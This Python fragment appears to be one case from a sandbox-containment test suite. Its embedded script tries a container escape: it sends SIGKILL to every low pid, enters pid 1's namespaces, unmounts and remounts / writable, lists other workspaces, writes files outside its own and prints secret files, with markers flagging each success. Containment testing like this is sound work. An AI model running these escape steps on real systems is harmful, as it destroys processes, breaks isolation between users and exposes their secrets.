# The template (issue 13): climb out of the child's namespaces towards the template that forked it,
# with real Python in a process of its own (ctypes): look for processes beyond its own pid namespace,
# signal every pid, take a user namespace of its own and unmount the cover of the folder of all
# workspaces, remount / writable, enter the namespaces of pid 1 and its parent, then the secrets.
import subprocess
CLIMB = r"""
import ctypes, io, os, signal, sys
ESCAPED, RUN_MARKER, SECRET_FILES = sys.argv[1], sys.argv[2], sys.argv[3:]
libc = ctypes.CDLL(None, use_errno=True)
mine = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("pids seen", mine[:20])
if any(pid > 64 for pid in mine):
    print(ESCAPED + "sees processes beyond its own pid namespace: %s" % mine[:10])
for pid in range(1, 400):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
for ns in ("mnt", "pid", "net", "user", "ipc"):
    for pid in (1, os.getppid()):
        try:
            fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)
            print(ns, pid, "setns", libc.setns(fd, 0), ctypes.get_errno())
        except Exception as e:
            print(ns, pid, e)
print("unshare user+mount", libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
for target in (b"/workspaces", b"/proc", b"/dev", b"/"):
    print("umount", target, libc.umount2(target, 2), ctypes.get_errno())
print("remount / rw", libc.mount(None, b"/", None, 32 | 4096, None), ctypes.get_errno())
try:
    found = os.listdir("/workspaces")
    print("/workspaces", found)
    if found:
        print(ESCAPED + "sees the folder of all workspaces: %s" % found[:5])
except Exception as e:
    print("/workspaces", e)
for path in ("/mark-" + RUN_MARKER, "/dev/shm/mark-" + RUN_MARKER, "/opt/swarm/mark-" + RUN_MARKER):
    try:
        io.open(path, "w").write("x")
        print(ESCAPED + "wrote outside its workspace: %s" % path)
    except Exception as e:
        print(path, e)
for p in SECRET_FILES:
    try:
        print(io.open(p).read())
    except Exception as e:
        print(p, e)
"""
done = subprocess.run([PYTHON, "-c", CLIMB, ESCAPED, RUN_MARKER] + list(SECRET_FILES), capture_output=True, text=True, timeout=30)
print(done.stdout[-3000:], done.stderr[-1500:])
